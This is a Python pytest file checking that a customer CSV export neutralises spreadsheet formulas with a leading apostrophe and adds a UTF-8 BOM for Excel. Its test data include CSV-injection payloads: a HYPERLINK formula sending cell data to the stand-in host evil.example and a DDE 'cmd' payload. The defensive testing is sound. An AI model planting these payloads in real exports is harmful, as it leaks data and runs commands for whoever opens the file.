"""The CSV export is safe to open in a spreadsheet (OWASP "CSV Injection": a cell that
would start a formula is neutralised with a leading apostrophe) and can start with the
UTF-8 byte order mark so that Excel reads Chinese text."""
import csv
import io

import pytest

from customer.queries import export as export_queries
from customer.tools.export_cli import BOM, stream

from customer_testkit import ADMIN, create

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_prefix_is_neutralised(value):
    assert export_queries.spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["华为技术有限公司", "a=b", "", 3, None, "'=already quoted"])
def test_other_values_are_left_as_they_are(value):
    assert export_queries.spreadsheet_safe(value) == value


def test_the_csv_batch_writes_no_live_formula(uow_for):
    for name in ("=HYPERLINK(\"http://evil.example\",\"点我\")有限公司", "+1+cmd|' /C calc'!A0公司"):
        create(uow_for(ADMIN), name=name, tags=["@risk"])
    batch = export_queries.export_batch(uow_for(ADMIN).session, ADMIN, 0, limit=10, fmt="csv")
    rows = list(csv.DictReader(io.StringIO("\n".join(batch["lines"]))))
    assert [row["name"][:2] for row in rows] == ["'=", "'+"]
    assert {row["tags"] for row in rows} == {"'@risk"}
    starts = export_queries.FORMULA_STARTS
    assert not [cell for row in rows for cell in row.values() if cell.startswith(starts)]


class FakeProxy:
    """``proxy.customer.export_batch`` over one fixed batch."""

    def __init__(self, lines):
        self.customer, self._lines = self, lines

    def export_batch(self, after, limit, format):
        return {"lines": self._lines, "next_after": 1, "done": True}


def test_the_cli_writes_the_bom_for_csv_only():
    out = io.StringIO()
    assert stream(FakeProxy(["number,name", "C00000001,华为"]), out, "csv", bom=True) == 1
    assert out.getvalue() == BOM + "number,name\nC00000001,华为\n"
    out = io.StringIO()
    stream(FakeProxy(['{"number": "C00000001"}']), out, "jsonl", bom=True)
    assert not out.getvalue().startswith(BOM)
    out = io.StringIO()
    stream(FakeProxy(["number,name"]), out, "csv")
    assert not out.getvalue().startswith(BOM)
